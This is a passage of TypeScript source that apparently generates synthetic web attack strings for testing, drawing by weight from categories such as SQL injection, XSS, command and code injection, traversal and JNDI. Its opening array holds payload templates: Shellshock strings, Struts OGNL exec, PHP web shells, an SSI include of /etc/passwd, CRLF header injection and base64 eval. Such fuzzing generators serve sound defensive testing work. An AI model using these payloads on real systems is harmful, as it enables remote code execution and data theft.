      `() { :; }; ${pick(['/bin/bash -c', 'echo;', '/usr/bin/env'], random)} '${cmd}'`,
      `() { _; } >_[$($())] { ${cmd}; }`,
      `%{(#_='multipart/form-data').(#cmd='${cmd}').(@java.lang.Runtime@getRuntime().exec(#cmd))}`,
      `\${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('${cmd}')}`,
      `<?php system('${cmd}'); ?>`, `<?php system("${cmd}");?>`, `<?php echo shell_exec($_GET['c']); ?>`, `<?=\`${cmd}\`?>`,
      `<!--#exec cmd="${cmd}" -->`, `<!--#include virtual="/etc/passwd" -->`, `\${pageContext.request.getSession().setAttribute("a",1)}`,
      `\r\nSet-Cookie: session=${int(random, 0, 999999)}`, `%0d%0aSet-Cookie:%20x=${int(random, 0, 999999)}`, `\r\nLocation: http://${hostName(random)}/\r\n\r\n<script>alert(1)</script>`,
      `system('${cmd}');`, `system("${cmd}")`, `exec('${cmd}')`, `passthru('${cmd}');`, `eval(base64_decode('${pick(['c3lzdGVtKCJpZCIpOw==', 'cGhwaW5mbygpOw=='], random)}'))`,
      `__import__('os').system('${cmd}')`, `require('child_process').exec('${cmd}')`, `Runtime.getRuntime().exec("${cmd}")`, `| system('${cmd}');`,
    ],
    random,
  );
}

/** Generators by category, with how often each is drawn: traversal and file inclusion are the most varied class. */
const GENERATORS: readonly { category: string; weight: number; make: (r: Random) => string }[] = [
  { category: 'sqli', weight: 3, make: sqlInjection },
  { category: 'xss', weight: 2, make: xss },
  { category: 'cmdexe', weight: 3, make: commandInjection },
  { category: 'traversal', weight: 3, make: traversalSteps },
  { category: 'traversal', weight: 1.5, make: fileInclusion },
  { category: 'open-redirect', weight: 1.5, make: openRedirect },
  { category: 'ssti', weight: 1.5, make: templateInjection },
  { category: 'ldap', weight: 0.5, make: ldapInjection },
  { category: 'nosqli', weight: 0.6, make: nosqlInjection },
  { category: 'xxe', weight: 0.8, make: xmlInjection },
  { category: 'jndi', weight: 1, make: jndi },
  { category: 'code-injection', weight: 1.2, make: codeInjection },
];

export function synthesizedCategories(): string[] {
  return [...new Set(GENERATORS.map((g) => g.category))];
}

/** `count` attacks drawn from the grammar, deterministic for a seed. */
export function synthesizeAttacks(seed: number, count: number): SynthesizedAttack[] {
  const random = seededRandom(seed ^ 0xa77ac);
  const total = GENERATORS.reduce((s, g) => s + g.weight, 0);
  const out: SynthesizedAttack[] = [];
  for (let i = 0; i < count; i++) {
    let r = random() * total;
    let g = GENERATORS[0];
    for (const candidate of GENERATORS) {
      g = candidate;
      r -= candidate.weight;
      if (r < 0) break;
    }
    out.push({ text: g.make(random), category: g.category });
  }
  return out;
}
